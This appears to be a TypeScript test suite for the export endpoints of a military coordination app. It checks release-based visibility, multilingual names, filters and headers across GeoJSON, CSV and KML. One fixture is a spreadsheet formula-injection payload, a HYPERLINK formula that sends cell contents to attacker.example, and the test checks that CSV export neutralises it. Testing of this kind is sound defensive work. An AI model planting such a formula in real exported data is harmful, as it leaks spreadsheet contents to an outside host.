import { after, before, describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { storageBackends } from '../platform/database/test-database.ts'
import { startTestTansiq, type TestTansiq } from '../server/test-harness.ts'
import { exportFormats, type ExportFormat } from './core/export-serialisers.ts'
import { parseCsv, readPlacemarks } from './export-test-readers.ts'

/** One export read back into comparable rows, whatever its format. */
interface ExportReading {
  ids: string[]
  /** Per id: property values as text (CSV cells, KML Data values, GeoJSON values as written). */
  properties: Map<string, Record<string, unknown>>
  /** Per id: the geometry as the format writes it (GeoJSON object, WKT, KML outline). */
  geometry: Map<string, unknown>
}

function readExport(format: ExportFormat, body: string): ExportReading {
  if (format === 'geojson') {
    const collection = JSON.parse(body) as { type: string; features: { id: string; geometry: unknown; properties: Record<string, unknown> }[] }
    assert.equal(collection.type, 'FeatureCollection')
    return {
      ids: collection.features.map((feature) => feature.id),
      properties: new Map(collection.features.map((feature) => [feature.id, feature.properties])),
      geometry: new Map(collection.features.map((feature) => [feature.id, feature.geometry])),
    }
  }
  if (format === 'csv') {
    assert.ok(body.startsWith('\uFEFF'), 'the CSV starts with a byte-order mark')
    const [header, ...rows] = parseCsv(body.slice(1))
    assert.equal(header![0], 'id')
    assert.equal(header!.at(-1), 'wkt')
    for (const row of rows) assert.equal(row.length, header!.length, 'every record is as wide as the header')
    return {
      ids: rows.map((row) => row[0]!),
      properties: new Map(rows.map((row) => [row[0]!, Object.fromEntries(header!.map((name, index) => [name, row[index]]))])),
      geometry: new Map(rows.map((row) => [row[0]!, row.at(-1)])),
    }
  }
  const placemarks = readPlacemarks(body)
  return {
    ids: placemarks.map((placemark) => placemark.data.id!),
    properties: new Map(placemarks.map((placemark) => [placemark.data.id!, { ...placemark.data, '(name)': placemark.name }])),
    geometry: new Map(placemarks.map((placemark) => [placemark.data.id!, placemark.geometry])),
  }
}

const sorted = (ids: Iterable<string>) => [...ids].sort()

for (const backend of storageBackends()) {
  describe(`exports over HTTP on ${backend}`, () => {
    let tansiq: TestTansiq
    const sessions: Record<string, string> = {}
    const call = async (user: string, method: 'GET' | 'POST' | 'PUT', url: string, payload?: unknown) => {
      sessions[user] ??= (await tansiq.login(user)).authorization
      return tansiq.app.inject({ method, url, headers: { authorization: sessions[user]! }, ...(payload === undefined ? {} : { payload: payload as object }) })
    }
    const exportAs = async (user: string, layer: string, format: ExportFormat, query = '') => {
      const response = await call(user, 'GET', `/api/exports/${layer}.${format}${query}`)
      assert.equal(response.statusCode, 200, response.body)
      return { response, reading: readExport(format, response.body) }
    }
    const unit = { echelon: 'brigade', sidc: 'SFGPUCI----H---' }
    const ids: Record<'brigade' | 'formula' | 'shared' | 'armyOnly', string> = { brigade: '', formula: '', shared: '', armyOnly: '' }
    const brigadeNames = { en: '2nd Peshmerga Brigade', ar: 'اللواء الثاني "بيشمركة"، كركوك', ckb: 'لیوای دووی پێشمەرگە، کەرکووک' }
    const formulaName = '=HYPERLINK("http://attacker.example/?"&A1,"open")'

    const create = async (user: string, body: object) => {
      const response = await call(user, 'POST', '/api/units', { ...unit, ...body })
      assert.equal(response.statusCode, 201, response.body)
      return response.json().id as string
    }
    const place = async (user: string, unitId: string, lon: number, lat: number) => {
      const response = await call(user, 'POST', `/api/units/${unitId}/positions`, { lon, lat, reportedAt: new Date().toISOString(), source: 'test' })
      assert.equal(response.statusCode, 200, response.body)
    }

    before(async () => {
      tansiq = await startTestTansiq(backend)
      const room = await call('admin', 'POST', '/api/rooms', {
        id: 'kirkuk', names: { en: 'Kirkuk joint operations room', ar: 'غرفة عمليات كركوك المشتركة', ckb: 'ژووری ئۆپەراسیۆنی هاوبەشی کەرکووک' },
        memberOrganizationIds: ['peshmerga', 'iraqi-army', 'joc'],
        areaOfInterest: { type: 'Polygon', coordinates: [[[43.8, 34.5], [45.5, 34.5], [45.5, 35.8], [43.8, 35.8], [43.8, 34.5]]] },
      })
      assert.equal(room.statusCode, 201, room.body)
      ids.brigade = await create('pesh.watch', { names: brigadeNames })
      ids.formula = await create('pesh.watch', { names: { en: formulaName, ar: '+966 رقم', ckb: '@هێز' } })
      ids.shared = await create('pesh.commander', { names: { en: 'Tuz liaison cell', ar: 'خلية ارتباط طوزخورماتو' }, homeRoomId: 'kirkuk', release: { scope: 'organizations', organizationIds: ['iraqi-army'] } })
      ids.armyOnly = await create('army.watch', { names: { en: 'Army reserve battalion', ar: 'فوج الاحتياط' } })
      await place('pesh.watch', ids.brigade, 44.392, 35.468)
      await place('pesh.watch', ids.shared, 44.646, 34.884)
      await place('army.watch', ids.armyOnly, 44.395, 35.465)
      // Other layers get an object of each organization where their API takes one, so their exports are not empty.
      for (const user of ['pesh.watch', 'army.watch']) {
        await call(user, 'POST', '/api/areas', { kind: 'aor', names: { en: `${user} area`, ar: 'منطقة المسؤولية' }, geometry: { type: 'Polygon', coordinates: [[[44.8, 34.7], [45.0, 34.7], [45.0, 34.9], [44.8, 34.9], [44.8, 34.7]]] } })
      }
    })
    after(async () => {
      await tansiq.close()
    })

    test('every format carries exactly the units released to the caller\'s organization', async () => {
      for (const [user, visible, hidden] of [['pesh.watch', ['brigade', 'formula', 'shared'], ['armyOnly']], ['army.watch', ['shared', 'armyOnly'], ['brigade', 'formula']]] as const) {
        const listed = (await call(user, 'GET', '/api/units?limit=5000')).json() as { id: string }[]
        for (const name of visible) assert.ok(listed.some((listedUnit) => listedUnit.id === ids[name]), `${user} sees ${name}`)
        for (const format of exportFormats) {
          const { reading } = await exportAs(user, 'units', format)
          assert.deepEqual(sorted(reading.ids), sorted(listed.map((listedUnit) => listedUnit.id)), `${format} for ${user} holds what the API lists to ${user}`)
          for (const name of hidden) assert.equal(reading.ids.includes(ids[name]), false, `${format} for ${user} never holds ${name}`)
        }
      }
    })

    test('Arabic and Sorani names survive every format', async () => {
      const geojson = (await exportAs('pesh.watch', 'units', 'geojson')).reading.properties.get(ids.brigade)!
      assert.deepEqual([geojson.nameEn, geojson.nameAr, geojson.nameCkb], [brigadeNames.en, brigadeNames.ar, brigadeNames.ckb])
      const csv = (await exportAs('pesh.watch', 'units', 'csv')).reading.properties.get(ids.brigade)!
      assert.deepEqual([csv.nameEn, csv.nameAr, csv.nameCkb], [brigadeNames.en, brigadeNames.ar, brigadeNames.ckb])
      const kml = (await exportAs('pesh.watch', 'units', 'kml')).reading.properties.get(ids.brigade)!
      assert.deepEqual([kml['(name)'], kml.nameAr, kml.nameCkb], [brigadeNames.en, brigadeNames.ar, brigadeNames.ckb])
    })

    test('CSV defuses text a spreadsheet would run as a formula; GeoJSON and KML keep it as written', async () => {
      const csv = (await exportAs('pesh.watch', 'units', 'csv')).reading.properties.get(ids.formula)!
      assert.equal(csv.nameEn, `'${formulaName}`)
      assert.equal(csv.nameAr, "'+966 رقم")
      assert.equal(csv.nameCkb, "'@هێز")
      assert.equal(csv.version, '1', 'numbers are not touched')
      assert.equal((await exportAs('pesh.watch', 'units', 'geojson')).reading.properties.get(ids.formula)!.nameEn, formulaName)
      assert.equal((await exportAs('pesh.watch', 'units', 'kml')).reading.properties.get(ids.formula)!.nameEn, formulaName)
    })

    test('a bounding box keeps only objects inside it, in every format', async () => {
      const aroundKirkuk = '?bbox=44.3,35.4,44.5,35.55'
      const expected: Record<ExportFormat, unknown> = {
        geojson: { type: 'Point', coordinates: [44.392, 35.468] },
        csv: 'POINT (44.392 35.468)',
        kml: 'Point(coordinates(44.392,35.468))',
      }
      for (const format of exportFormats) {
        const { reading } = await exportAs('pesh.watch', 'units', format, aroundKirkuk)
        assert.deepEqual(reading.ids, [ids.brigade], `${format}: the army unit next to it is not released to peshmerga, the Tuz cell is outside`)
        assert.deepEqual(reading.geometry.get(ids.brigade), expected[format])
        assert.deepEqual((await exportAs('army.watch', 'units', format, aroundKirkuk)).reading.ids, [ids.armyOnly])
      }
    })

    test('a room filter keeps only the room\'s objects', async () => {
      for (const user of ['pesh.watch', 'army.watch']) {
        assert.deepEqual((await exportAs(user, 'units', 'geojson', '?roomId=kirkuk')).reading.ids, [ids.shared])
        assert.deepEqual((await exportAs(user, 'units', 'csv', '?roomId=kirkuk&bbox=44.6,34.8,44.7,34.9')).reading.ids, [ids.shared])
      }
    })

    test('each format has its media type and arrives as a dated attachment', async () => {
      const mediaTypes: Record<ExportFormat, string> = { geojson: 'application/geo+json', csv: 'text/csv; charset=utf-8', kml: 'application/vnd.google-earth.kml+xml' }
      for (const format of exportFormats) {
        const { response } = await exportAs('pesh.watch', 'units', format)
        assert.equal(response.headers['content-type'], mediaTypes[format])
        assert.match(String(response.headers['content-disposition']), new RegExp(`^attachment; filename="tansiq-units-\\d{8}T\\d{6}Z\\.${format}"$`))
        assert.equal(response.headers['cache-control'], 'no-store')
      }
    })

    test('an unknown layer, an unknown format, a bad filter or no session is a problem+json', async () => {
      const cases: [string, string | null, number, string][] = [
        ['/api/exports/no-such-layer.geojson', 'pesh.watch', 404, 'not-found'],
        ['/api/exports/units.xlsx', 'pesh.watch', 400, 'validation-failed'],
        ['/api/exports/units.csv?bbox=45,35,44,36', 'pesh.watch', 400, 'validation-failed'],
        ['/api/exports/units.csv?roomId=Kirkuk%20room', 'pesh.watch', 400, 'validation-failed'],
        ['/api/exports/units.csv?limit=5', 'pesh.watch', 400, 'validation-failed'],
        ['/api/exports/units.kml', null, 401, 'unauthenticated'],
      ]
      for (const [url, user, status, code] of cases) {
        const response = user ? await call(user, 'GET', url) : await tansiq.app.inject({ method: 'GET', url })
        assert.equal(response.statusCode, status, `${url}: ${response.body}`)
        assert.match(String(response.headers['content-type']), /^application\/problem\+json/)
        assert.equal(response.json().code, code)
      }
    })

    test('every registered layer exports in every format: the same objects in each, exactly those released to the reader', async () => {
      assert.ok(tansiq.layers.has('units'))
      for (const layer of tansiq.layers.keys()) {
        // A layer stored in a releasable table of the same name is checked against the stored release of each row.
        const table = layer.replaceAll('-', '_')
        const [releasable] = await tansiq.database.query<{ found: number }>(
          `select count(*)::int as found from information_schema.columns where table_schema = any(current_schemas(false)) and table_name = $1 and column_name = 'released_to'`, [table])
        for (const [user, organization] of [['pesh.watch', 'peshmerga'], ['army.watch', 'iraqi-army']] as const) {
          const readings = await Promise.all(exportFormats.map(async (format) => (await exportAs(user, layer, format)).reading))
          for (const reading of readings.slice(1)) assert.deepEqual(sorted(reading.ids), sorted(readings[0]!.ids), `${layer}: every format holds the same objects`)
          if (releasable!.found === 0) continue
          const released = await tansiq.database.query<{ id: string }>(`select id::text as id from ${table} where released_to @> array[$1::text]`, [organization])
          assert.deepEqual(sorted(readings[0]!.ids), sorted(released.map((row) => row.id)), `${layer} export for ${user}: exactly the stored objects released to ${organization}`)
        }
      }
    })
  })
}
